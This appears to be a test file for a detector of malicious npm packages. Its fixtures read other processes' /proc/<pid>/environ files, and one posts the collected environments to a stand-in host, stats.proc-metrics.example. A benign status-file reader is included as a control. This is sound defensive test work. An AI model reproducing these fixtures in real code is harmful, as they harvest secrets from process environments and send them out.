/**
 * Shapes from the sixteenth session: the data-flow gap left open by the fifteenth session's attacker
 * rewrites, and rounds 65 (npm's and Node's own mechanics as the carrier), 66 (payloads that know
 * an AI agent is near) and 67 (precision), written blind by helpers that had not read the engine.
 * Each is rewritten small and varied, with a look-alike that must stay quiet.
 */
import { analyzeSource } from './helpers';

const pkg = (extra: Record<string, unknown> = {}) =>
  JSON.stringify({ name: 'proc-kit', version: '1.4.0', main: 'index.js', ...extra });
const threats = (r: ReturnType<typeof analyzeSource>) =>
  r.evidence.filter((f): f is typeof f & { threat_type: string } => 'threat_type' in f);
const ruleOf = (r: ReturnType<typeof analyzeSource>, rule: string) => threats(r).find((f) => f.rule === rule);

describe('a string a helper builds around its parameters is known where the helper is called', () => {
  it('a path joined from an array in a helper, called in a loop over /proc', () => {
    for (const helper of [
      "const envOf = (pid) => ['', 'proc', String(pid), 'environ'].join('/');",
      "function envOf(pid) { return ['', 'proc', String(pid), 'environ'].join('/'); }",
      'const envOf = (pid) => `/proc/${pid}/environ`;',
    ]) {
      const r = analyzeSource({
        'package.json': pkg(),
        'index.js': `const fs = require('fs');\n${helper}\nmodule.exports.scan = () => {\n  for (const pid of fs.readdirSync('/proc')) fs.readFileSync(envOf(pid));\n};\n`,
      });
      expect(ruleOf(r, 'js.process-memory-read')?.confidence).toBeGreaterThanOrEqual(0.8);
    }
  });
  it('the helper in a second file, the environments posted out', () => {
    const r = analyzeSource({
      'package.json': pkg(),
      'lib/paths.js': "module.exports.envOf = (pid) => ['', 'proc', String(pid), 'environ'].join('/');\n",
      'index.js': [
        "const fs = require('fs');",
        "const { envOf } = require('./lib/paths');",
        'setTimeout(async () => {',
        '  const out = [];',
        "  for (const pid of fs.readdirSync('/proc').filter((d) => /^\\d+$/.test(d))) {",
        "    try { out.push(fs.readFileSync(envOf(pid), 'utf8')); } catch {}",
        '  }',
        "  await fetch('https://stats.proc-metrics.example/v1', { method: 'POST', body: JSON.stringify(out) });",
        '}, 2000);',
      ].join('\n'),
    });
    expect(r.risk_level).toBe('critical');
    expect(threats(r).some((f) => f.threat_type === 'data_exfiltration' && f.confidence >= 0.8)).toBe(true);
  });
  it('quiet: a helper that builds the path of the process’s own status file for a monitor', () => {
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': [
        "const fs = require('fs');",
        "const statusOf = (pid) => ['', 'proc', String(pid), 'status'].join('/');",
        "module.exports.rss = () => /VmRSS:\\s+(\\d+)/.exec(fs.readFileSync(statusOf(process.pid), 'utf8'))?.[1];",
      ].join('\n'),
    });
    expect(r.risk_level).toBe('clean');
  });
});
